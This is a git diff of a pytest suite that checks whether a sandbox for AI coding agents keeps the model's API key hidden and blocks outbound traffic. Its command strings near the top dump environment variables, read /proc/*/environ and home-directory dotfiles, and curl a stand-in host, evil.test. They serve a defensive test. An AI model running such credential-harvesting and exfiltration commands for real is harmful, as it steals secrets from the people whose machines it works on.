@@ -3,17 +3,66 @@
 import json
 import shutil
 import subprocess
+from collections.abc import Callable
+from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 
-from tests.clients.sessions import Ended, run, write_project
+from tests.clients.conftest import client, thorough
+from tests.clients.sessions import CLIENTS, KEY, Ended, run, write_project
 from tests.commands import wave_runtime
 from tests.model_server import Script, ToolCall, Turn
 
-KEY = "made-up-key-0123456789"
-LOOK = "env; cat /proc/*/environ | tr '\\0' '\\n'; cat ~/.claude.json ~/.claude/* 2>/dev/null; echo looked"
-ASK = "curl -sS --max-time 10 http://evil.test/ https://api.anthropic.com/; curl -sS --noproxy '*' http://127.0.0.1:80/"
+LOOK = "env; curl -sS --max-time 10 http://evil.test/ https://evil.test/; echo loo''ked"
+FURTHER = "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; cat ~/.*/* ~/.*.json 2>/dev/null | head -c 9000; "
+FINDINGS = '{"findings": []}'
+
+
+@dataclass(frozen=True)
+class Tools:
+    """How a model asks this client for a shell and for a file."""
+
+    shell: Callable[[str], ToolCall]
+    report: ToolCall
+    accept: tuple[str, ...] = ()
+    """What the step accepts of the client."""
+    look: str = FURTHER + LOOK
+
+
+TOOLS = {
+    "claude": Tools(
+        lambda command: ToolCall("Bash", {"command": command, "description": "x"}),
+        ToolCall("Write", {"file_path": "out/report.json", "content": FINDINGS}),
+    ),
+    "codex": Tools(
+        lambda command: ToolCall("exec_command", {"cmd": command}),
+        ToolCall(
+            "apply_patch",
+            {"input": f"*** Begin Patch\n*** Add File: out/report.json\n+{FINDINGS}\n*** End Patch"},
+        ),
+        ("typed-input", "reads-by-shell"),
+    ),
+    "gemini": Tools(
+        lambda command: ToolCall("run_shell_command", {"command": command}),
+        ToolCall("write_file", {"file_path": "out/report.json", "content": FINDINGS}),
+    ),
+    "opencode": Tools(
+        lambda command: ToolCall("bash", {"command": command, "description": "x"}),
+        ToolCall("write", {"filePath": "out/report.json", "content": FINDINGS}),
+        look=LOOK,  # it lets no command name a folder outside
+    ),
+}
+CASES = [
+    ("claude", "ns", "none"),
+    pytest.param("claude", "ns", "open", marks=thorough),
+    pytest.param("claude", "ns", "[example.com]", marks=thorough),
+    pytest.param("claude", "lsm", "none", marks=thorough),
+    ("codex", "ns", "none"),
+    pytest.param("codex", "lsm", "none", marks=thorough),
+    pytest.param("gemini", "ns", "none", marks=thorough),
+    pytest.param("opencode", "ns", "none", marks=thorough),
+]
 
 
 @pytest.fixture(scope="module", autouse=True)
@@ -26,43 +75,38 @@ def _namespaces() -> None:
         pytest.skip(f"there are no namespaces for bwrap: {ended.stderr.strip()}")
 
 
-def bash(command: str) -> Turn:
-    return Turn(calls=(ToolCall("Bash", {"command": command, "description": "x"}),))
+def look_around(project: Path, name: str, level: str, network: str) -> tuple[Script, Ended]:
+    """A session that looks for the key, and then does its work."""
+    tools = TOOLS[name]
+    step = f"    sandbox: {{level: {level}, network: {network}}}\n"
+    write_project(project, ["Bash", "Write(out/*)"], client=name, accept=list(tools.accept), step=step)
+    turns = [Turn(calls=(tools.shell(tools.look),)), Turn(calls=(tools.report,)), Turn(text="It is done.")]
+    script = Script(turns)
+    return script, run(project, script, client(name))
 
 
-def answers(script: Script) -> str:
-    """All that the client told the model of its tools."""
-    return "\n".join(json.dumps(request.body.get("messages", [])) for request in script.requests)
-
-
-def look_around(project: Path, claude: Path, level: str, network: str) -> tuple[Script, Ended]:
-    write_project(project, ["Bash", "Write(out/*)"], step=f"    sandbox: {{level: {level}, network: {network}}}\n")
-    report = ToolCall("Write", {"file_path": "out/report.json", "content": '{"findings": []}'})
-    asks = (bash(ASK),) if network == "none" else ()
-    script = Script([bash(LOOK), *asks, Turn(calls=(report,)), Turn(text="It is done.")])
-    return script, run(project, script, claude)
-
-
-@pytest.mark.parametrize(("level", "network"), [("ns", "none"), ("ns", "open"), ("lsm", "none")])
-def test_an_agent_never_sees_the_key_of_its_model(tmp_path: Path, claude: Path, level: str, network: str) -> None:
-    script, ended = look_around(tmp_path, claude, level, network)
+@pytest.mark.parametrize(("name", "level", "network"), CASES)
+def test_an_agent_never_sees_the_key_of_its_model(tmp_path: Path, name: str, level: str, network: str) -> None:
+    script, ended = look_around(tmp_path, name, level, network)
     assert ended.code == 0, ended.said
-    asked = [request for request in script.requests if "messages" in request.body]
-    assert {request.headers.get("x-api-key") for request in asked} == {KEY}
-    told = answers(script)
+    headers = [{field.lower(): value for field, value in request.headers.items()} for request in script.requests]
+    assert all(KEY in " ".join(fields.values()) for fields in headers)
+    told = json.dumps([request.body for request in script.requests])
     assert "looked" in told
-    assert "ANTHROPIC_API_KEY=wave-placeholder-" in told
     assert KEY not in told
-    if network == "none":
-        assert "evil.test" in told
-        assert "not in the plan" in told or "403" in told or "Could" in told
     (attempt,) = ended.attempts
-    assert attempt["network"]["keys_outside"] == ["ANTHROPIC_API_KEY"]
-    models = [one for one in attempt["network"]["contacted"] if one["kind"] == "model"]
-    assert [(one["host"], one["verdict"]) for one in models] == [("127.0.0.1", "allowed")]
-    assert models[0]["connections"] >= len(asked)
+    variable = CLIENTS[name].key
+    assert attempt["network"]["keys_outside"] == [variable]
+    contacted = attempt["network"]["contacted"]
+    (model,) = [one for one in contacted if one["kind"] == "model"]
+    assert (model["host"], model["verdict"]) == ("127.0.0.1", "allowed")
+    assert model["connections"] >= len(script.requests)
+    others = {one["verdict"] for one in contacted if one["kind"] != "model"}
+    assert others <= {"refused"}
+    if network != "open" and level == "ns":
+        assert ("evil.test", "refused") in [(one["host"], one["verdict"]) for one in contacted]
     kept = [path for path in (tmp_path / ".wave").rglob("*") if path.is_file()]
     assert [path for path in kept if KEY.encode() in path.read_bytes()] == []
     assert KEY not in wave_runtime("events", "it", cwd=tmp_path).stdout
     why = wave_runtime("why", "it", "review", cwd=tmp_path).stdout
-    assert "  keys that it did not get: ANTHROPIC_API_KEY" in why
+    assert f"  keys that it did not get: {variable}" in why
